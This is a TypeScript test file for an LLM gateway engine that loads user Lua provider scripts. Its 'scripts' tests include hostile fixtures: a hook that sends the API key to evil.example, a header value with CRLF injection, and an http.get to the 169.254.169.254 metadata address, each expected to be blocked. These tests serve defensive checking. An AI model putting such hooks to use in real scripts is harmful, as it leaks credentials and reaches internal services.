import { gzipSync } from 'node:zlib';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { completionContent, finishReasonOf } from '../../electron/contract/completion.ts';
import type { AppError } from '../../electron/contract/errors.ts';
import type { ChatRequest } from '../../electron/contract/request.ts';
import { getDialect } from '../../electron/dialects/registry.ts';
import type { CallContext, DeltaStream } from '../../electron/engine/engine.ts';
import { sendJson, sendStream, sseText, startUpstream, textChunks } from '../support/scripted-upstream.ts';
import type { ScriptedUpstream } from '../support/scripted-upstream.ts';
import { createTestEngine } from '../support/test-engine.ts';
import type { TestEngine } from '../support/test-engine.ts';

const plainScript = `
return {
  name = "Plain", protocol = "openai_compat", base_url = config.url, completions_endpoint = "/v1/chat/completions", auth_type = "bearer", auth_key = config.api_key,
}`;

const question: ChatRequest = {
  messages: [{ role: 'user', content: [{ type: 'text', text: 'Hi' }] }],
  options: {},
  stream: true,
};

let upstream: ScriptedUpstream;
let test: TestEngine;

beforeEach(async () => {
  upstream = await startUpstream();
});

afterEach(async () => {
  await test.close();
  await upstream.close();
});

function open(
  script = plainScript,
  backend: Record<string, unknown> = {},
  env: Record<string, string> = {},
): TestEngine {
  test = createTestEngine({
    config: {
      llm: {
        backends: [
          { name: 'work', type: 'plain', url: upstream.url, api_key: 'sk-secret-key-1', ...backend },
        ],
      },
    },
    scripts: { plain: script },
    env,
  });
  return test;
}

function context(extra: Partial<CallContext> = {}): CallContext {
  return {
    client: 'chat',
    dialect_in: null,
    model_asked: 'work/m-1',
    signal: new AbortController().signal,
    ...extra,
  };
}

async function ask(extra: Partial<CallContext> = {}, request = question): Promise<DeltaStream> {
  const call = context(extra);
  return test.engine.streamDeltas(
    await test.engine.resolveModel(call.model_asked, { record_for: call }),
    request,
    call,
  );
}

async function textOf(stream: DeltaStream): Promise<string> {
  for await (const _delta of stream.deltas);
  return completionContent(stream.completion)
    .map(block => (block.type === 'text' ? block.text : ''))
    .join('');
}

async function failure(promise: Promise<unknown>): Promise<AppError> {
  return promise.then(
    () => expect.unreachable('it should have failed'),
    (error: AppError) => error,
  );
}

/** Passes bytes as the gateway does and collects what a tool would get. */
async function pass(
  body: string,
  signal = new AbortController().signal,
  onEnd: () => void = () => undefined,
): Promise<{ status?: number; text: string; error?: AppError }> {
  const dialect = getDialect('openai_completions');
  const request = dialect.passthrough.readRequest(Buffer.from(body));
  const call = context({ client: 'a tool', dialect_in: 'openai_completions', signal });
  const plan = await test.engine.resolveModel(request.model, { record_for: call });
  const got: { status?: number; text: string; error?: AppError } = { text: '' };
  await new Promise<void>(resolve => {
    const fail = (error: AppError): void => {
      got.error = error;
      resolve();
    };
    const sink = {
      head: (status: number) => void (got.status = status),
      data: (chunk: Buffer) => ((got.text += chunk.toString('utf8')), true),
      end(last?: Buffer) {
        onEnd();
        got.text += last?.toString('utf8') ?? '';
        resolve();
      },
      cut: fail,
    };
    const words = (): ChatRequest => expect.unreachable('bytes should have passed');
    test.engine.answer(plan, { bytes: { request, sink }, words }, call, { deltas: () => undefined, fail });
  });
  return got;
}

describe('a call in our own words', () => {
  it('streams the answer and records one row', async () => {
    open();
    const stream = await ask();
    expect(await textOf(stream)).toBe('Hello there.');
    expect(finishReasonOf(stream.completion)).toBe('stop');
    expect(upstream.requests[0]).toMatchObject({ method: 'POST', path: '/v1/chat/completions' });
    expect(upstream.requests[0]?.headers.authorization).toBe('Bearer sk-secret-key-1');
    const [row] = await test.waitForRows(1);
    expect(row).toMatchObject({
      client: 'chat',
      backend: 'work',
      model_asked: 'work/m-1',
      model_answered: 'scripted-1',
      dialect_in: null,
      dialect_out: 'openai_completions',
      status: 'ok',
      http_status: 200,
      error_code: null,
      input_tokens: 7,
      output_tokens: 3,
      cache_read_tokens: null,
      tokens_origin: 'reported',
      cost_usd: null,
      attempts: 1,
    });
    expect(row?.first_token_ms).toBeGreaterThan(0);
    expect(row?.duration_ms).toBeGreaterThanOrEqual(row?.first_token_ms ?? 0);
  });

  it('says nothing of tokens the upstream did not report', async () => {
    open();
    upstream.answer = (_request, response) => sendStream(response, textChunks(['x'], null));
    await textOf(await ask());
    expect((await test.waitForRows(1))[0]).toMatchObject({
      input_tokens: null,
      output_tokens: null,
      tokens_origin: 'unknown',
      cost_usd: null,
    });
  });

  it('reads an answer that is not streamed', async () => {
    open();
    upstream.answer = (_request, response) =>
      sendJson(response, 200, {
        id: 'x',
        object: 'chat.completion',
        created: 1,
        model: 'scripted-1',
        choices: [{ index: 0, message: { role: 'assistant', content: 'Whole.' }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
      });
    expect(await textOf(await ask({}, { ...question, stream: false }))).toBe('Whole.');
    expect(JSON.parse(upstream.requests[0]!.body)).not.toHaveProperty('stream', true);
  });

  it('unpacks an answer that was compressed although it was asked not to be', async () => {
    open();
    upstream.answer = (request, response) => {
      expect(request.headers['accept-encoding']).toBe('identity');
      response.writeHead(200, { 'content-type': 'text/event-stream', 'content-encoding': 'gzip' });
      response.end(gzipSync(sseText(textChunks(['packed']))));
    };
    expect(await textOf(await ask())).toBe('packed');
  });

  it('keeps the text of a stream that is cut, and calls it interrupted', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['Half']).slice(0, 2), false));
      setTimeout(() => response.destroy(), 30);
    };
    const stream = await ask();
    expect(await textOf(stream)).toBe('Half');
    expect(stream.completion.error).toMatchObject({ code: 'incomplete_stream' });
    expect((await test.waitForRows(1))[0]).toMatchObject({
      status: 'interrupted',
      error_code: 'incomplete_stream',
    });
  });

  it('does not take a stream without a finish for a whole answer', async () => {
    open();
    upstream.answer = (_request, response) => sendStream(response, textChunks(['Half']).slice(0, 2), false);
    const stream = await ask();
    expect(await textOf(stream)).toBe('Half');
    expect(finishReasonOf(stream.completion)).toBe('error');
  });

  it('stops the upstream at once when the caller stops', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['First']).slice(0, 2), false));
    };
    const stop = new AbortController();
    const stream = await ask({ signal: stop.signal });
    setTimeout(() => stop.abort(), 30);
    expect(await textOf(stream)).toBe('First');
    await upstream.requests[0]?.aborted;
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'cancelled', error_code: 'cancelled' });
  });

  it('stops the upstream when nobody reads on', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['First', 'Second']).slice(0, 3), false));
    };
    for await (const delta of (await ask()).deltas) if (delta.type === 'block_delta') break;
    await upstream.requests[0]?.aborted;
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'cancelled' });
  });
});

describe('an upstream that fails', () => {
  it('that refuses the connection is named with its address', async () => {
    open(plainScript, { url: 'http://127.0.0.1:1' });
    const error = await failure(ask());
    expect(error.code).toBe('upstream_unreachable');
    expect(error.message).toMatch(/^work \(http:\/\/127\.0\.0\.1:1\) refused the connection/);
    expect((await test.waitForRows(1))[0]).toMatchObject({
      status: 'error',
      error_code: 'upstream_unreachable',
    });
  });

  it('that hangs is given up after the backend timeout', async () => {
    open(plainScript, { timeout_ms: 200 });
    upstream.answer = () => undefined;
    const error = await failure(ask());
    expect(error).toMatchObject({ code: 'upstream_timeout' });
    expect(error.message).toContain('0.2 s');
  });

  it('that answers with a web page is not taken for a model', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<html><body>Sign in to the guest network</body></html>');
    };
    const error = await failure(ask());
    expect(error.code).toBe('upstream_not_json');
    expect(error.message).not.toContain('<html>');
  });

  it('that redirects is not followed', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(302, { location: 'http://elsewhere.example/login' });
      response.end();
    };
    const error = await failure(ask());
    expect(error.message).toContain('redirects to http://elsewhere.example');
    expect(upstream.requests).toHaveLength(1);
  });

  it('keeps status, message and retry time, and never the key it quotes', async () => {
    open();
    upstream.answer = (_request, response) =>
      sendJson(
        response,
        429,
        {
          error: { message: 'Slow down, owner of sk-secret-key-1', type: 'rate_limit', code: 'rate_limited' },
        },
        { 'retry-after': '7' },
      );
    const error = await failure(ask());
    expect(error).toMatchObject({ code: 'http_error', http_status: 429, retry_after_ms: 7000 });
    expect(error.message).toContain('Slow down, owner of [key]');
    expect(JSON.stringify(error.body)).not.toContain('sk-secret');
    expect((await test.waitForRows(1))[0]).toMatchObject({
      status: 'error',
      http_status: 429,
      error_code: 'http_error',
    });
  });

  it('that sends something else than JSON in its stream is told apart from a cut', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end('data: {"broken\n\n');
    };
    expect(await failure(ask())).toMatchObject({ code: 'stream_error' });
  });
});

describe('bytes of the same dialect', () => {
  const body = `{ "model" : "work/m-1",\t"messages":[{"role":"user","content":"Hi \\u00e9"}], "x_unknown": {"b":1.0,"a":[1e2]}, "seed":9007199254740993 }`;

  it('go through as they are but for the model', async () => {
    open();
    upstream.answer = (_request, response) =>
      sendJson(response, 200, {
        x_new: 1,
        model: 'scripted-1',
        choices: [{ index: 0, message: { role: 'assistant', content: 'ok' }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 5, completion_tokens: 1 },
      });
    const got = await pass(body);
    expect(upstream.requests[0]?.body).toBe(body.replace('work/m-1', 'm-1'));
    expect(got.status).toBe(200);
    expect(JSON.parse(got.text)).toHaveProperty('x_new', 1);
    expect((await test.waitForRows(1))[0]).toMatchObject({
      client: 'a tool',
      dialect_in: 'openai_completions',
      status: 'ok',
      input_tokens: 5,
      model_answered: 'scripted-1',
    });
  });

  it('stay bytes through a hook that only sets headers', async () => {
    open(`
local p = { protocol = "openai_compat", base_url = config.url, completions_endpoint = "/v1/chat/completions" }
function p.on_request(req)
  req.headers["X-Custom-Auth"] = "token-" .. config.api_key
  req.headers["X-Request-Model"] = req.model
  return req, nil
end
return p`);
    upstream.answer = (_request, response) =>
      sendJson(response, 200, { choices: [{ index: 0, message: { content: 'ok' }, finish_reason: 'stop' }] });
    await pass(body);
    expect(upstream.requests[0]?.body).toBe(body.replace('work/m-1', 'm-1'));
    expect(upstream.requests[0]?.headers).toMatchObject({
      'x-custom-auth': 'token-sk-secret-key-1',
      'x-request-model': 'm-1',
    });
    expect(upstream.requests[0]?.headers.authorization).toBeUndefined();
  });

  it('ask for usage and take it out again when only we wanted it', async () => {
    open();
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}');
    expect(JSON.parse(upstream.requests[0]!.body)).toMatchObject({ stream_options: { include_usage: true } });
    expect(got.text).not.toContain('prompt_tokens');
    expect(got.text).toContain('data: [DONE]');
    expect((await test.waitForRows(1))[0]).toMatchObject({ input_tokens: 7, output_tokens: 3 });
  });

  it('answer with a real status when the first frame is an error', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end('data: {"error":{"message":"overloaded","code":529}}\n\n');
    };
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}');
    expect(got.status).toBeUndefined();
    expect(got.error?.message).toContain('overloaded');
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'error' });
  });

  it.each([
    ['in a piece of its own', ['data: [DONE]\n\n']],
    [
      'in the piece of the last text',
      ['data: {"choices":[{"delta":{"content":" more"}}]}\n\ndata: [DONE]\n\n'],
    ],
    ['in pieces', ['data: [DO', 'NE]', '\n\n']],
    ['without a line break', ['data: [DONE]']],
  ])('say that an answer is not whole before it says that it is over, %s', async (_name, last) => {
    open();
    upstream.answer = async (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const pieces = ['data: {"choices":[{"delta":{"content":"The first half"}}]}\n\n', ...last];
      for (const piece of pieces) {
        response.write(piece);
        await new Promise(resolve => {
          setTimeout(resolve, 10);
        });
      }
      response.end();
    };
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}');
    expect(got.text).toContain('The first half');
    expect(got.text).not.toContain('data: [DONE]');
    expect(got.error?.code).toBe('incomplete_stream');
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'interrupted' });
  });

  it('are told and recorded as failed where their end cannot be handed on', async () => {
    open();
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}', undefined, () => {
      throw new Error('nowhere to write');
    });
    expect(got.error?.code).toBe('internal');
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'error', error_code: 'internal' });
  });

  it('are recorded also where what they say cannot be read', async () => {
    open();
    const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;
    const call = `{"id":"c","function":{"name":"f","arguments":${deep}}}`;
    const answer = `{"choices":[{"message":{"tool_calls":[${call}]},"finish_reason":"tool_calls"}]}`;
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(answer);
    };
    const got = await pass('{"model":"work/m-1","messages":[]}');
    expect(got.text === answer).toBe(true);
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'ok', input_tokens: null });
  });

  it('report a cut answer as cut', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['Half']).slice(0, 2), false));
      setTimeout(() => response.destroy(), 30);
    };
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}');
    expect(got.text).toContain('Half');
    expect(got.error?.code).toBe('incomplete_stream');
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'interrupted' });
  });

  it('stop when the tool goes away', async () => {
    open();
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['Half']).slice(0, 2), false));
    };
    const stop = new AbortController();
    setTimeout(() => stop.abort(), 150);
    const got = await pass('{"model":"work/m-1","stream":true,"messages":[]}', stop.signal);
    expect(got.error?.code).toBe('cancelled');
    await upstream.requests[0]?.aborted;
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'cancelled' });
  });
});

describe('scripts', () => {
  it('of the user win over the built-in of the same name, also when broken', async () => {
    open();
    test.writeScript('ollama', 'return {');
    test.setConfig({ llm: { backends: [{ name: 'local', type: 'ollama', url: upstream.url }] } });
    const error = await failure(ask({ model_asked: 'local/m' }));
    expect(error.code).toBe('script_error');
    expect(error.message).toContain('providers/ollama.lua:1:');
    expect((await test.waitForRows(1))[0]).toMatchObject({
      backend: 'local',
      status: 'error',
      error_code: 'script_error',
    });
  });

  it.each([
    ['protocol', 'protocol = "openai_compat", '],
    ['base_url', 'base_url = config.url, '],
    ['completions_endpoint', 'completions_endpoint = "/v1/chat/completions", '],
  ])('without %s name the field and the file', async (field, line) => {
    open(plainScript.replace(line, ''));
    const error = await failure(ask());
    expect(error).toMatchObject({ code: 'script_result' });
    expect(error.message).toContain(`providers/plain.lua: the field \`${field}\``);
  });

  it.each([
    ['nil', 'return nil'],
    ['nothing', 'local a = 1'],
    ['a number', 'return 7'],
  ])('that return %s are refused in one sentence', async (_what, source) => {
    open(source);
    const error = await failure(ask());
    expect(error.code).toBe('script_result');
    expect(error.message).toContain('providers/plain.lua');
  });

  it('stop a call with their own reason before any network', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.on_request(req) return nil, "quota used up" end
return p`);
    const error = await failure(ask());
    expect(error.message).toContain('quota used up');
    expect(upstream.requests).toHaveLength(0);
    expect((await test.waitForRows(1))[0]).toMatchObject({ status: 'error', error_code: 'script_refused' });
  });

  it('cannot send a call elsewhere', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.on_request(req) req.url = "http://evil.example/take?k=" .. config.api_key return req end
return p`);
    const error = await failure(ask());
    expect(error.code).toBe('host_not_granted');
    expect(error.message).toContain('evil.example');
    expect(error.message).not.toContain('sk-secret');
  });

  it('cannot break the framing with a header', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.on_request(req) req.headers["x-a"] = "1\\r\\nhost: evil.example" return req end
return p`);
    expect((await failure(ask())).code).toBe('script_result');
    expect(upstream.requests).toHaveLength(0);
  });

  it('change body, model and messages', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.on_request(req) req.model = "other"; req.body.temperature = 0.5; return req end
return p`);
    await textOf(await ask());
    expect(JSON.parse(upstream.requests[0]!.body)).toMatchObject({ model: 'other', temperature: 0.5 });
  });

  it('see and change events in order', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.modify_events(deltas, raw)
  for _, d in ipairs(deltas) do if d.type == "block_delta" then d.delta = string.upper(d.delta) end end
  return deltas
end
return p`);
    upstream.answer = (_request, response) =>
      sendStream(response, textChunks(Array.from({ length: 50 }, (_, i) => `w${String(i)} `)));
    expect(await textOf(await ask())).toBe(Array.from({ length: 50 }, (_, i) => `W${String(i)} `).join(''));
    expect((await test.engine.targetOf({ backend: 'work', model: 'm-1' })).passes_bytes).toBe(false);
  });

  it('that changed are loaded anew; a call under way ends on the old one', async () => {
    open();
    let finish = (): void => undefined;
    upstream.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sseText(textChunks(['Old']).slice(0, 2), false));
      finish = () => response.end(sseText(textChunks([' end']).slice(1)));
    };
    const stream = await ask();
    test.writeScript('plain', plainScript.replace('/v1/chat/completions', '/v2/chat'));
    test.engine.reload();
    await expect
      .poll(async () => {
        upstream.answer = (_request, response) => sendStream(response, textChunks(['New']));
        await textOf(await ask());
        return upstream.requests.at(-1)?.path;
      })
      .toBe('/v2/chat');
    finish();
    expect(await textOf(stream)).toBe('Old end');
  });

  it('reach nothing but their own base_url with http.get', async () => {
    open(`${plainScript.replace('return {', 'local p = {')}
function p.on_request(req)
  local ok, err = pcall(http.get, "http://169.254.169.254/latest/meta-data", {})
  if not ok then return nil, tostring(err) end
  return req
end
return p`);
    const error = await failure(ask());
    expect(error.message).toContain('169.254.169.254');
    expect(error.message).toContain('not been granted');
  });
});

describe('models', () => {
  it('are listed by the endpoint, named backend/model', async () => {
    open();
    upstream.answer = (request, response) =>
      sendJson(
        response,
        200,
        request.path === '/v1/models' ? { data: [{ id: 'a' }, { id: 'org/b', name: 'B' }, { nope: 1 }] } : {},
      );
    const { models, problems } = await test.engine.listModels();
    expect(models.map(({ id, name }) => [id, name])).toEqual([
      ['work/a', 'a'],
      ['work/org/b', 'B'],
    ]);
    expect(problems).toEqual([]);
    expect(upstream.requests[0]?.headers.authorization).toBe('Bearer sk-secret-key-1');
  });

  it('go through parse_models, and junk is reported without a crash', async () => {
    const hooked = (body: string): string =>
      `${plainScript.replace('return {', 'local p = {')}\nfunction p.parse_models(r) ${body} end\nreturn p`;
    open(
      hooked(
        'local out = {} for _, m in ipairs(r.models or {}) do table.insert(out, { id = m.name, name = m.name }) end return out',
      ),
    );
    upstream.answer = (_request, response) => sendJson(response, 200, { models: [{ name: 'llama' }] });
    expect((await test.engine.listModels()).models.map(({ id }) => id)).toEqual(['work/llama']);
    test.writeScript('plain', hooked('return "junk"'));
    test.engine.reload();
    await expect
      .poll(async () => (await test.engine.listModels({ refresh: true })).problems[0]?.error.message)
      .toContain('parse_models must return a list');
  });

  it('are missed with a reason, one backend not disturbing another', async () => {
    open();
    test.setConfig({
      llm: {
        backends: [
          { name: 'dead', type: 'plain', url: 'http://127.0.0.1:1', api_key: 'k' },
          { name: 'work', type: 'plain', url: upstream.url, api_key: 'k' },
        ],
      },
    });
    upstream.answer = (_request, response) => sendJson(response, 200, { data: [{ id: 'a' }] });
    const { models, problems } = await test.engine.listModels();
    expect(models.map(({ id }) => id)).toEqual(['work/a']);
    expect(problems).toMatchObject([{ backend: 'dead', error: { code: 'upstream_unreachable' } }]);
  });
});

describe('keys', () => {
  it.each([
    ['an environment variable', { api_key: '${WORK_KEY}' }, 'Bearer env-key-1'],
    ['the env: form', { api_key: 'env:WORK_KEY' }, 'Bearer env-key-1'],
    ['the call itself first', { api_key: 'env:WORK_KEY' }, 'Bearer call-key-1', { api_key: 'call-key-1' }],
  ])('come from %s', async (_what, backend, expected, call: Partial<CallContext> = {}) => {
    open(plainScript, backend, { WORK_KEY: 'env-key-1' });
    await textOf(await ask(call));
    expect(upstream.requests[0]?.headers.authorization).toBe(expected);
  });

  it('that are missing fail the call, not the start, and say what to set', async () => {
    open(plainScript, { api_key: '${NO_SUCH_KEY}' });
    const error = await failure(ask());
    expect(error.code).toBe('missing_env_var');
    expect(error.message).toContain('NO_SUCH_KEY');
    expect(upstream.requests).toHaveLength(0);
    const [backend] = await test.engine.listBackends();
    expect(backend).toMatchObject({ key: null, key_error: { code: 'missing_env_var' }, script_error: null });
  });

  it('are described by where they came from, never shown', async () => {
    open(plainScript, { api_key: 'env:WORK_KEY' }, { WORK_KEY: 'env-key-1' });
    const backends = await test.engine.listBackends();
    expect(backends[0]?.key).toEqual({ tier: 'settings', source: 'env', name: 'WORK_KEY' });
    expect(JSON.stringify(backends)).not.toContain('env-key-1');
  });
});

describe('routing and checks', () => {
  it.each([
    ['', '/v1/chat/completions'],
    ['/v1', '/v1/chat/completions'],
    ['/proxy/v1/', '/proxy/v1/chat/completions'],
    ['/v1x', '/v1x/v1/chat/completions'],
  ])('take an address that ends in "%s" as people mean it', async (ending, path) => {
    open(plainScript, { url: `${upstream.url}${ending}` });
    await textOf(await ask());
    expect(upstream.requests[0]?.path).toBe(path);
  });

  it('refuse unknown names with what there is', async () => {
    open();
    expect((await failure(ask({ model_asked: 'nowhere/m' }))).message).toContain('There are: work');
    expect((await failure(ask({ model_asked: 'm-1' }))).message).toContain('work/m-1');
    expect(await test.waitForRows(2)).toMatchObject([
      { backend: 'nowhere', error_code: 'unknown_model' },
      { backend: '', error_code: 'unknown_model' },
    ]);
  });

  it('find a backend healthy, or say what is broken first', async () => {
    open();
    upstream.answer = (_request, response) => sendJson(response, 200, { data: [{ id: 'a' }, { id: 'b' }] });
    expect(await test.engine.checkBackend('work')).toMatchObject({
      ok: true,
      error: null,
      reachable: true,
      models: 2,
      script: 'user',
    });
    upstream.answer = (request, response) =>
      sendJson(response, request.path === '/' ? 200 : 401, { error: { message: 'bad key sk-secret-key-1' } });
    const broken = await test.engine.checkBackend('work');
    expect(broken).toMatchObject({ ok: false, reachable: true });
    expect(broken.error).toContain('401');
    expect(JSON.stringify(broken)).not.toContain('sk-secret');
  });

  it('review a script without a single request', async () => {
    open();
    const review = await test.engine.inspectProvider(
      'acme.lua',
      'return { name = "Acme", protocol = "openai_compat", base_url = "https://api.acme.example/x", completions_endpoint = "/c", on_request = function(r) return r end }',
    );
    expect(review).toMatchObject({
      type: 'acme',
      name: 'Acme',
      hosts: ['api.acme.example'],
      hooks: ['on_request'],
      replaces: null,
    });
    const asking = await failure(
      test.engine.inspectProvider('acme.lua', `http.get("${upstream.url}", {}) return {}`),
    );
    expect(asking.message).toContain('may not');
    expect((await failure(test.engine.inspectProvider('../x.txt', ''))).code).toBe('script_refused');
    expect(upstream.requests).toHaveLength(0);
  });
});
